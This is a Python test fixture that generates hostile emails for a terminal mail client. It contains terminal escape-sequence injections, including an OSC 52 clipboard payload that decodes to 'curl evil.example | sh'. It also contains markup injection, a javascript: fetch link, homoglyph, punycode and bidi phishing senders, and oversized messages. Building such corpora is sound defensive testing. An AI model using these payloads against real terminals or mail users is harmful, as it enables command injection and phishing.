"""Messages made to hurt a terminal mail client, as raw RFC 5322 bytes.

Each entry is delivered into the sandbox (`po6-tui sandbox deliver`) and opened in the app;
nothing in them may reach the terminal as a control sequence, markup must show literally,
and each must render quickly. Built in code (not stored files) so every case says what it
attacks, and the huge ones cost nothing in the repository.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from email.header import Header
from email.message import EmailMessage
from email.utils import formataddr

ESC = "\x1b"
CSI_CLEAR = f"{ESC}[2J{ESC}[H"
OSC_TITLE = f"{ESC}]0;pwned title\x07"
OSC8_LINK = f"{ESC}]8;;https://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\"
OSC52_CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
DCS = f"{ESC}P1$qm{ESC}\\"
C1_CSI = "\x9b31m"
RLO = "\u202e"
ZWSP = "\u200b"
MARKUP = "[@click=app.quit]click to win[/] [bold red]URGENT[/] [link=https://evil.example]bank[/link]"
ALL_ESCAPES = CSI_CLEAR + OSC_TITLE + OSC8_LINK + OSC52_CLIPBOARD + DCS + C1_CSI


@dataclass(frozen=True)
class HostileMail:
    name: str
    attack: str
    raw: bytes
    phishing: bool = False  # the reader should flag it


def _message(subject: str, sender: str, body: str, *, html: str | None = None,
             attachment_name: str | None = None, extra_headers: int = 0) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "hostile-target@agents.po6.test"
    msg["Subject"] = subject
    msg["Date"] = "Sat, 21 Nov 2026 10:00:00 +0000"
    msg["Message-ID"] = f"<{abs(hash(subject)) % 10**12}@hostile.example>"
    for i in range(extra_headers):
        msg[f"X-Filler-{i}"] = f"value {i}"
    msg.set_content(body)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    if attachment_name is not None:
        msg.add_attachment(b"payload", maintype="application", subtype="octet-stream", filename=attachment_name)
    return msg


def _bytes(msg: EmailMessage) -> bytes:
    return msg.as_bytes()


def _raw_with_unencoded_controls(subject: str, sender: str, body: str) -> bytes:
    """Header and body bytes exactly as a hostile sender writes them (no MIME encoding)."""
    lines = [
        f"From: {sender}",
        "To: hostile-target@agents.po6.test",
        f"Subject: {subject}",
        "Date: Sat, 21 Nov 2026 10:00:00 +0000",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        body,
    ]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape")


def _encoded_word(text: str) -> bytes:
    """An RFC 2047 encoded word: how control characters get into a header that SMTP carries."""
    return b"=?utf-8?b?" + base64.b64encode(text.encode()) + b"?="


def _nested_html(depth: int) -> str:
    return "<div>" * depth + "deep" + "</div>" * depth


def build_corpus() -> list[HostileMail]:
    corpus = [
        HostileMail("escapes-in-subject", "CSI/OSC/DCS/C1 in an encoded Subject",
                    _bytes(_message(f"Invoice {ALL_ESCAPES} due", "billing@vendor.example", "see subject"))),
        HostileMail("escapes-raw-headers", "raw ESC bytes in From display name and Subject",
                    _raw_with_unencoded_controls(f"Hi {CSI_CLEAR}{OSC_TITLE}", f'"Eve {OSC52_CLIPBOARD}" <eve@evil.example>', "body")),
        HostileMail("escapes-in-body", "every escape kind in the text body",
                    _bytes(_message("Body escapes", "a@b.example", f"line1\n{ALL_ESCAPES}\nline3"))),
        HostileMail("escapes-in-attachment-name", "escape sequences in an attachment filename",
                    _bytes(_message("Attachment", "a@b.example", "see attachment",
                                    attachment_name=f"report{CSI_CLEAR}{OSC_TITLE}.pdf"))),
        HostileMail("escapes-in-display-name", "OSC 8 link in an encoded display name",
                    _bytes(_message("Display name", formataddr((f"Support {OSC8_LINK}", "support@evil.example")), "x"))),
        HostileMail("markup-everywhere", "Textual/Rich markup incl. [@click=…] in subject, sender and body",
                    # Written raw: the email package would drop the quotes around the display name.
                    _raw_with_unencoded_controls(MARKUP, f'"{MARKUP}" <markup@evil.example>', MARKUP + "\n" + MARKUP)),
        HostileMail("bidi-sender", "RLO override in sender and subject (reversed filename trick)",
                    _bytes(_message(f"Your invoice {RLO}fdp.exe", formataddr((f"Pay{RLO}lapyaP", "pay@pal-secure.example")), "x")),
                    phishing=True),
        HostileMail("zero-width", "zero-width characters hiding inside a sender and subject",
                    _raw_with_unencoded_controls(f"pass{ZWSP}word reset", f"G{ZWSP}oogle <no-reply@goo{ZWSP}gle.example>", "x"),
                    phishing=True),
        HostileMail("homoglyph-domain", "Cyrillic letters in a look-alike sender domain",
                    _raw_with_unencoded_controls("Security alert", "PayPal <service@p\u0430ypal.com>", "Log in now"),
                    phishing=True),
        HostileMail("phishing-link", "link text names another host than its target",
                    _bytes(_message("Verify your account", "security@bank.example", "see html",
                                    html='<p>Log in at <a href="https://evil.example/login">https://bank.example/login</a></p>')),
                    phishing=True),
        HostileMail("html-escapes", "escape sequences and markup inside HTML",
                    _bytes(_message("HTML escapes", "a@b.example", "plain",
                                    html=f"<h1>{ALL_ESCAPES}</h1><p>{MARKUP}</p><script>alert(1)</script>"))),
        HostileMail("nested-html", "HTML nested 5000 levels deep",
                    _bytes(_message("Nested", "a@b.example", "plain", html=_nested_html(5000)))),
        HostileMail("broken-html", "unclosed tags, bad entities, stray brackets",
                    _bytes(_message("Broken", "a@b.example", "plain",
                                    html="<table><tr><td><b><i>unclosed &#xZZZ; &bogus; <<a href='x' <p>text</td><"))),
        # NUL bytes travel base64-encoded (SMTP itself refuses raw NULs), and arrive decoded.
        HostileMail("invalid-encoding", "bytes that are not valid in the declared charset, plus NULs",
                    b"From: a@b.example\r\nTo: hostile-target@agents.po6.test\r\nSubject: =?utf-8?b?/w==?= bad\r\n"
                    b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
                    b"Content-Transfer-Encoding: base64\r\n\r\n"
                    + base64.b64encode(b"\xff\xfe\x00\x00bad\x00bytes \xc3\x28 \xed\xa0\x80 end") + b"\r\n"),
        HostileMail("unknown-charset", "a charset Python does not know",
                    b"From: a@b.example\r\nTo: hostile-target@agents.po6.test\r\nSubject: charset\r\n"
                    b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n\r\nhello\r\n"),
        HostileMail("many-headers", "three thousand headers",
                    _bytes(_message("Headers", "a@b.example", "x", extra_headers=3000))),
        HostileMail("long-subject", "a 100 kB subject line",
                    _bytes(_message("S" * 100_000, "a@b.example", "x"))),
        HostileMail("lines-100k", "a body of 100,000 lines",
                    _bytes(_message("Many lines", "a@b.example", "\n".join(f"line {i}" for i in range(100_000))))),
        HostileMail("body-10mb", "a 10 MB text body",
                    _bytes(_message("Huge", "a@b.example", ("x" * 99 + "\n") * 100_000))),
        HostileMail("encoded-word-escape", "an RFC 2047 encoded word that decodes to ESC",
                    _bytes(_message(str(Header(f"{ESC}[31mred{ESC}[0m", "utf-8")), "a@b.example", "x"))),
        HostileMail("markup-in-attachment-name", "Textual markup and OSC 52 in an attachment filename",
                    _bytes(_message("Attachment markup", "a@b.example", "see attachment",
                                    attachment_name=f"[@click=app.quit]invoice[/]{OSC52_CLIPBOARD}.pdf"))),
        HostileMail("nul-and-c1-in-headers", "NUL, BEL, backspace and 8-bit C1 controls in encoded headers and body",
                    b"From: " + _encoded_word("Mallory\x00\x07\x08") + b" <m@evil.example>\r\n"
                    b"To: hostile-target@agents.po6.test\r\n"
                    b"Subject: " + _encoded_word("over\b\b\b\bsafe \x9b2J\x9d0;t\x9c \x00end") + b"\r\n"
                    b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=latin-1\r\n\r\n\x9b31mred\x1b[0m\x9d52;c;eA==\x07\r\n"),
        HostileMail("mixed-script-display-name", "a Cyrillic letter in the display name of a brand",
                    _bytes(_message("Your Apple ID was locked", formataddr(("\u0410pple Support", "support@apple-id.example")),
                                    "Unlock it now")),
                    phishing=True),
        HostileMail("punycode-domain", "a look-alike international domain in its ASCII (xn--) form",
                    _raw_with_unencoded_controls("Payment failed", "PayPal <service@xn--pypal-4ve.com>", "Update now"),
                    phishing=True),
        HostileMail("javascript-link", "a javascript: link dressed as a bank URL",
                    _bytes(_message("Confirm payment", "bank@bank.example", "see html",
                                    html='<a href="javascript:fetch(\'//evil.example\')">https://bank.example</a>')),
                    phishing=True),
    ]
    return corpus
